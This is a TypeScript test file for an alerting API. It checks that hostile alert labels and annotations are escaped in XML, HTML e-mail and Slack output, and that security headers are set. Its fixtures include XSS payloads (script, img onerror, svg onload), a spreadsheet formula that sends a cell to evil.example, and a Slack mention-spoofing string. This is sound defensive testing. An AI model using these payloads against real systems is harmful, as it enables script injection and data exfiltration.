/**
 * Output encoding, on PGlite and on the PostgreSQL server: alertbase
 * renders no page but its API documentation, so hostile labels and
 * annotations (script tags, attribute breakers, `javascript:` links,
 * spreadsheet formulas) come back as data: escaped in XML, never read as
 * HTML by a browser (`nosniff`) and with nothing allowed to run (a content
 * security policy on every answer outside `/docs`), errors and 404s too;
 * in notification e-mails (HTML) and Slack messages they are escaped, and
 * only http(s) URLs become links.
 */
import { expect, it } from 'vitest';
import type { ChannelConfigOf } from '../../src/domain/notification-channel.js';
import { slackPayload } from '../../src/notify/channels/slack.js';
import { notificationHtml } from '../../src/notify/templates.js';
import type { NotificationMessage, NotifiedAlert } from '../../src/notify/types.js';
import { DATA_CONTENT_SECURITY_POLICY } from '../../src/server/output-headers.js';
import { call } from '../server/helpers.js';
import { onEveryEngine } from './engines.js';

/** What a hostile sender puts in labels and annotations. */
const HOSTILE = {
  script: '<script>alert(1)</script>',
  attribute: '"><img src=x onerror=alert(1)>',
  svg: "<svg onload=alert('x')>",
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  entity: '&lt;b&gt; &amp; ]]> <![CDATA[x]]>',
} as const;

onEveryEngine('output encoding', (fixtures) => {
  const ingestHostile = async (): Promise<void> => {
    const t = fixtures();
    const r = await call(t.app, 'POST', '/v1/alerts', {
      key: t.keys.responder,
      body: [
        {
          labels: { alertname: 'Hostile', team: HOSTILE.attribute, note: HOSTILE.formula },
          annotations: {
            summary: HOSTILE.script,
            description: HOSTILE.svg,
            runbook: HOSTILE.entity,
          },
          level: 'high',
          priority: 'P2',
        },
      ],
    });
    expect(r.status).toBe(200);
  };

  it('every answer carries nosniff and a policy that runs nothing, errors and 404s included', async () => {
    const t = fixtures();
    await ingestHostile();
    const answers = [
      await call(t.app, 'GET', '/v1/alerts?limit=5', { key: t.keys.viewer }),
      await call(t.app, 'GET', '/v1/alerts', { key: null }),
      await call(t.app, 'GET', `/v1/${encodeURIComponent(HOSTILE.script)}`, { key: t.keys.viewer }),
      await call(t.app, 'GET', '/v1/alerts?limit=5', {
        key: t.keys.viewer,
        accept: 'application/xml',
      }),
      await call(t.app, 'GET', '/health/live', { key: null }),
    ];
    expect(answers.map((r) => r.status)).toEqual([200, 401, 404, 200, 200]);
    for (const r of answers) {
      expect(r.headers['x-content-type-options']).toBe('nosniff');
      expect(r.headers['content-security-policy']).toBe(DATA_CONTENT_SECURITY_POLICY);
      expect(String(r.headers['content-type'])).not.toContain('html');
    }
    // The API documentation is the one page: it may run its own scripts, and holds no tenant data.
    const docs = await t.app.inject({ method: 'GET', url: '/docs/' });
    expect(docs.headers['x-content-type-options']).toBe('nosniff');
    expect(docs.headers['content-security-policy']).toBeUndefined();
    expect(docs.body).not.toContain('Hostile');
  });

  it('hostile labels and annotations come back as the same text, escaped in XML', async () => {
    const t = fixtures();
    await ingestHostile();
    const json = await call(t.app, 'GET', '/v1/alerts?limit=100', { key: t.keys.viewer });
    const stored = (json.body.items ?? []).find((a) => {
      const labels = a.labels as Record<string, string>;
      return labels.alertname === 'Hostile';
    });
    expect(stored?.labels).toMatchObject({ team: HOSTILE.attribute, note: HOSTILE.formula });
    expect(stored?.annotations).toMatchObject({
      summary: HOSTILE.script,
      description: HOSTILE.svg,
      runbook: HOSTILE.entity,
    });
    const xml = await call(t.app, 'GET', '/v1/alerts?limit=100', {
      key: t.keys.viewer,
      accept: 'application/xml',
    });
    expect(xml.status).toBe(200);
    const text = xml.raw.body;
    for (const raw of ['<script', '<img', '<svg', '<![CDATA[x', 'onerror=alert(1)>']) {
      expect(text).not.toContain(raw);
    }
    expect(text).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    // And decoding the XML gives the text back exactly.
    const decoded = (xml.body.items ?? []).find(
      (a) => (a.labels as Record<string, string>).alertname === 'Hostile',
    );
    expect(decoded?.annotations).toMatchObject({
      summary: HOSTILE.script,
      runbook: HOSTILE.entity,
    });
  });
});

const hostileAlert = (over: Partial<NotifiedAlert> = {}): NotifiedAlert => ({
  status: 'firing',
  labels: { alertname: HOSTILE.script, team: HOSTILE.attribute },
  annotations: { summary: HOSTILE.svg, description: HOSTILE.formula },
  startsAt: '2026-11-28T06:00:00Z',
  endsAt: '0001-01-01T00:00:00Z',
  generatorURL: 'javascript:alert(1)',
  fingerprint: 'ffffffffffffffff',
  ...over,
});

const hostileMessage = (alerts: NotifiedAlert[]): NotificationMessage => ({
  id: 'n',
  tenantId: 't',
  receiver: 'r',
  action: 'notify',
  status: 'firing',
  groupKey: '{}',
  groupLabels: { alertname: HOSTILE.script },
  commonLabels: { alertname: HOSTILE.script },
  commonAnnotations: {},
  externalURL: 'data:text/html,<script>alert(1)</script>',
  truncatedAlerts: 0,
  alerts,
});

it('notification e-mails escape hostile labels and annotations and link only http(s) URLs', () => {
  const html = notificationHtml(
    hostileMessage([
      hostileAlert(),
      hostileAlert({ generatorURL: 'https://p.example/g?a=1&b="2"' }),
    ]),
  );
  for (const raw of ['<script', '<img', '<svg', 'javascript:', 'data:text/html']) {
    expect(html).not.toContain(raw);
  }
  expect(html).toContain('&lt;svg onload=alert(&#39;x&#39;)&gt;');
  // One link: the http(s) one, its quotes and ampersands escaped.
  expect(html.match(/href=/g)).toHaveLength(1);
  expect(html).toContain('href="https://p.example/g?a=1&amp;b=&quot;2&quot;"');
});

it('Slack messages escape what Slack reads as markup, and link only http(s) URLs', () => {
  const payload = JSON.stringify(
    slackPayload(
      // Only `channel` is read; the webhook URL is the sender's.
      { type: 'slack', channel: null } as unknown as ChannelConfigOf<'slack'>,
      hostileMessage([
        hostileAlert({ annotations: { summary: '<!channel> <http://evil.example|bank>' } }),
        hostileAlert({ generatorURL: 'https://p.example/g?x=a|fake' }),
      ]),
    ),
  );
  expect(payload).not.toContain('<!channel>');
  expect(payload).not.toContain('<http://evil.example|bank>');
  expect(payload).toContain('&lt;!channel&gt;');
  expect(payload).not.toContain('javascript:');
  expect(payload).toContain('<https://p.example/g?x=a%7Cfake|source>');
});
